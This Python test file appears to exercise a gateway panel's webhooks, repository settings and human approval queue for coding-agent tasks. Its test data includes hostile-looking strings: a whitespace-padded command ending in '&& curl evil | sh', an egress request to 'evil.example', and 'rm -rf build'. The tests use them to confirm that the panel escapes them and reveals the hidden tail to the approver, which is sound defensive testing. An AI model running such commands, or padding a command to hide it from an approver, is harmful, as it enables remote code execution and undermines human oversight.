"""Webhooks, repositories and approvals in the panel."""

from __future__ import annotations

import re

from services.gateway.ui.steering import PendingRequest
from shared.repos.mcp import McpServer
from shared.repos.models import RepoConfig
from shared.tasks.states import TaskStatus as S
from tests.ui.conftest import browser, csrf_of


async def test_a_webhook_secret_is_shown_once_and_revoke_works(gw):
    async with browser(gw, "alice") as b:
        csrf = csrf_of((await b.get("/ui/webhooks")).text)
        created = await b.post("/ui/webhooks", data={"csrf_token": csrf, "name": "<b>ci</b>"})
        assert created.status_code == 201
        secret = re.search(r'id="webhook-secret">([^<]+)<', created.text).group(1)
        assert secret in gw.raw_secrets.values.values()
        assert "&lt;b&gt;ci&lt;/b&gt;" in created.text
        listing = (await b.get("/ui/webhooks")).text
        assert secret not in listing and "Revoke" in listing
        hook_id = re.search(r"/ui/webhooks/([0-9A-Z]{26})/revoke", listing).group(1)
        revoked = await b.post(f"/ui/webhooks/{hook_id}/revoke", data={"csrf_token": csrf})
        assert revoked.status_code == 303
        assert (await gw.deps.webhooks.get(hook_id)).status == "revoked"
        twice = await b.post(f"/ui/webhooks/{hook_id}/revoke", data={"csrf_token": csrf})
        assert twice.status_code == 409
        nameless = await b.post("/ui/webhooks", data={"csrf_token": csrf, "name": ""})
        assert nameless.status_code == 400 and "1 to 100 characters" in nameless.text
    async with browser(gw, "bob") as other:
        csrf = csrf_of((await other.get("/ui/webhooks")).text)
        assert (await other.post(f"/ui/webhooks/{hook_id}/revoke", data={"csrf_token": csrf})).status_code == 404


async def test_repositories_are_listed_with_their_config(gw):
    await gw.deps.repos.put(RepoConfig(repo="acme/tools", test_command="pytest -q", max_turns=30,
                                       egress_allowlist=["pypi.org"]))
    async with browser(gw, "alice") as b:
        html = (await b.get("/ui/repos")).text
    assert "acme/tools" in html and "pytest -q" in html and "pypi.org" in html and "<form" not in html.split("<main")[1]


async def test_the_repositories_page_shows_each_repos_engine_and_mcp_servers(gw):
    await gw.deps.repos.put(RepoConfig(repo="acme/cc", engine="claude-code", mcp_servers={
        "docs": McpServer(command="docs-server"), "tracker": McpServer(type="http", url="https://mcp.example.com")}))
    async with browser(gw, "alice") as b:
        html = (await b.get("/ui/repos")).text
    assert re.search(r"<td>acme/cc</td>.*?<td>claude-code</td><td>docs, tracker</td>", html, re.S)


async def test_the_repositories_page_says_what_waits_for_the_owner(gw):
    from shared.steering.models import ApprovalRule

    await gw.deps.repos.put(RepoConfig(repo="acme/gated", approve_push=True, egress="ask", approval_rules=[
        ApprovalRule(name="ci", pattern="workflows", applies_to=["editor", "test"])]))
    async with browser(gw, "alice") as b:
        html = (await b.get("/ui/repos")).text
    assert "the push; an unlisted host; ci (editor/test, text only)" in html


class FakeSteering:
    def __init__(self) -> None:
        self.decisions: list[tuple[str, str, str, bool]] = []
        self.nudges: list[tuple[str, str, str]] = []

    async def pending(self, user_id: str) -> list[PendingRequest]:
        return [PendingRequest("T1", "R1", "acme/app", "rm -rf build", "2026-01-01T00:00:00Z")] \
            if user_id == "alice" else []

    async def decide(self, user_id: str, task_id: str, request_id: str, *, approve: bool) -> None:
        self.decisions.append((user_id, task_id, request_id, approve))

    async def nudge(self, user_id: str, task_id: str, message: str) -> None:
        self.nudges.append((user_id, task_id, message))


async def test_the_panel_decides_real_approval_requests_through_the_api_rules(gw):
    from shared.steering.models import Approval, ApprovalRule
    from shared.tasks.models import Task
    from shared.tasks.states import TaskStatus as S

    task = await gw.tasks.create(Task.new(user_id="alice", repo="acme/app", task_description="x"))
    for status in (S.HYDRATING, S.RUNNING):
        await gw.tasks.transition(task.task_id, status, max_active=5)
    approval = await gw.deps.approvals.request(Approval.new(  # as the agent does: request, then wait
        task_id=task.task_id, user_id="alice", rule=ApprovalRule(name="installs", pattern="pip install"),
        command="pip install <evil>", reason="need a package"))
    await gw.tasks.transition(task.task_id, S.AWAITING_APPROVAL)
    async with browser(gw, "alice") as b:
        page = await b.get("/ui/approvals")
        assert "pip install &lt;evil&gt;" in page.text and "Approve" in page.text  # escaped, and decidable
        resp = await b.post(f"/ui/approvals/{task.task_id}/{approval.approval_id}",
                            data={"csrf_token": csrf_of(page.text), "decision": "approve"})
        assert resp.status_code == 303
    decided = await gw.deps.approvals.get(task.task_id, approval.approval_id)
    assert decided.status == "approved" and decided.decided_by == "alice"
    assert (await gw.tasks.get(task.task_id)).status == S.RUNNING  # handed back to the agent
    async with browser(gw, "mallory") as b:  # another user sees nothing to decide
        assert "pip install" not in (await b.get("/ui/approvals")).text


async def test_approvals_and_nudges_go_through_the_steering_adapter(gw):
    from shared.tasks.models import Task

    steering = gw.deps.steering = FakeSteering()
    task = await gw.tasks.create(Task.new(user_id="alice", repo="acme/app", task_description="x"))
    async with browser(gw, "alice") as b:
        page = await b.get("/ui/approvals")
        assert "rm -rf build" in page.text
        csrf = csrf_of(page.text)
        resp = await b.post("/ui/approvals/T1/R1", data={"csrf_token": csrf, "decision": "approve"})
        assert resp.status_code == 303 and steering.decisions == [("alice", "T1", "R1", True)]
        assert "Nudge the agent" not in (await b.get(f"/ui/tasks/{task.task_id}")).text  # not running yet
        await gw.tasks.transition(task.task_id, S.HYDRATING, max_active=5)
        await gw.tasks.transition(task.task_id, S.RUNNING)
        assert "Nudge the agent" in (await b.get(f"/ui/tasks/{task.task_id}")).text
        await b.post(f"/ui/tasks/{task.task_id}/nudge", data={"csrf_token": csrf, "message": "use pytest"})
        assert steering.nudges == [("alice", task.task_id, "use pytest")]


async def test_the_panel_shows_the_tail_of_a_padded_command_and_the_requests_kind(gw):
    from shared.steering.models import EGRESS_GATE, Approval, ApprovalRule
    from shared.tasks.models import Task

    task = await gw.tasks.create(Task.new(user_id="alice", repo="acme/app", task_description="x"))
    for status in (S.HYDRATING, S.RUNNING):
        await gw.tasks.transition(task.task_id, status, max_active=5)
    await gw.deps.approvals.request(Approval.new(
        task_id=task.task_id, user_id="alice", rule=EGRESS_GATE, kind="egress", command="connect to evil.example:443",
        reason=""))
    padded = "pip install requests" + " " * 200 + "&& curl evil | sh"
    await gw.deps.approvals.request(Approval.new(
        task_id=task.task_id, user_id="alice", rule=ApprovalRule(name="installs", pattern="pip install"),
        command=padded, reason="need a package"))
    await gw.tasks.transition(task.task_id, S.AWAITING_APPROVAL)
    async with browser(gw, "alice") as b:
        page = (await b.get("/ui/approvals")).text
    assert "pip install requests␠×200&amp;&amp; curl evil | sh" in page and " " * 20 not in page
    assert "<td>egress</td>" in page and "connect to evil.example:443" in page
